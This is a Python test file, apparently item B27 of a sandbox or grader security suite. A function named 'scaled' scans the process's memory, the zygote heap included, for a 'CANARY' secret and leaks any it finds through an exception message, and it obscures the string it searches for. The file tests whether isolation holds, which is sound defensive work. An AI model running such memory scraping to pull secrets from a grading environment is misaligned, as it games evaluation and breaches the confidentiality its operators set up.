# B27: searches all of its memory, the zygote's heap and what lies freed in it above all, for secrets of the course
# expect = "failed"
# reason = "the value is not the expected one"
# defence = ["environment"]
# aim = "CANARY"
import ctypes
import re

import torch

libc = ctypes.CDLL(None)
libc.sbrk.restype, libc.memmem.restype = ctypes.c_void_p, ctypes.c_void_p
libc.sbrk.argtypes = (ctypes.c_ssize_t,)
libc.memmem.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p, ctypes.c_size_t)
libc.mincore.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p)
NEEDLE = bytes(reversed(b"YRANAC"))
SECRET = re.compile(NEEDLE + b"[0-9a-f]{16}")
PAGE = 4096


def areas():
    """Return what is mapped and readable; without /proc, the heap and the stack."""
    try:
        with open("/proc/self/maps") as table:
            fields = [line.split() for line in table]
    except OSError:
        here = id(NEEDLE) // PAGE * PAGE  # on the heap: the zygote's allocator is malloc, from one area
        buffer = ctypes.create_string_buffer(8)
        yield from map(around, (here, ctypes.addressof(buffer) // PAGE * PAGE))
        return
    for parts in fields:
        if parts[1].startswith("r") and (len(parts) < 6 or not parts[5].startswith(("/", "[v"))):
            yield tuple(int(end, 16) for end in parts[0].split("-"))


def around(address):
    """Return the mapped area around an address, by asking for each stretch whether it is mapped."""
    first = last = address
    step = 1 << 20
    while step >= PAGE:
        mapped = ctypes.create_string_buffer(step // PAGE)
        while libc.mincore(last, step, mapped) == 0:
            last += step
        while libc.mincore(first - step, step, mapped) == 0:
            first -= step
        step //= 2
    return first, last


def scaled(x, by):
    looked = 0
    for first, last in areas():
        looked += last - first
        while first < last and (found := libc.memmem(first, last - first, NEEDLE, len(NEEDLE))):
            first = found + 1
            match = SECRET.match(ctypes.string_at(found, min(60, last - found)))
            if match:
                raise ValueError(match[0])
    return torch.full_like(x, looked)
